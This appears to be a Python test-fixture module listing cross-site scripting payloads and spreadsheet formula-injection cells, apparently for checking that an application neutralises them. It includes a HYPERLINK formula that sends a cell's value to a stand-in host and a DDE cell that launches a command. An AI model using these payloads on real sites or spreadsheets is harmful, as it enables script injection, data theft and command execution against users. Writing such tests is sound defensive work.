"""Texts that somebody could type to make a screen or a spreadsheet run something."""

XSS = (
    "<script>window.xss=1</script>",
    '<img src="/xss" onerror="window.xss=1">',
    "<svg onload='window.xss=1'><circle/></svg>",
    "`${window.xss=1}`</script><b data-xss>",
    "</script><script>window.xss=1</script>",
    "javascript:window.xss=1//https://a.example",
    "[klik](javascript:window.xss=1) ![x](https://jahat.invalid/x.png) **tebal** :red[x]",
    "\"'><b data-xss onmouseover='window.xss=1' autofocus onfocus=window.xss=1 tabindex=1>",
    '<iframe srcdoc="<script>parent.window.xss=1</script>"></iframe>',
    "{{ this._parent.get_name() }}{% raw %}{{ 7*191 }}<b data-xss>",
    "&lt;img src=x onerror=window.xss=1&gt;&#60;b data-xss&#62;",
    "\u2028\u2029\u202e<b data-xss>\ufeff'+(window.xss=1)+'",
)
"""Twelve ways into a page: by tag, attribute, script, template, link, entity and odd signs."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://jahat.invalid/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "  =1+1",
)
"""Ten cells that a spreadsheet would compute."""
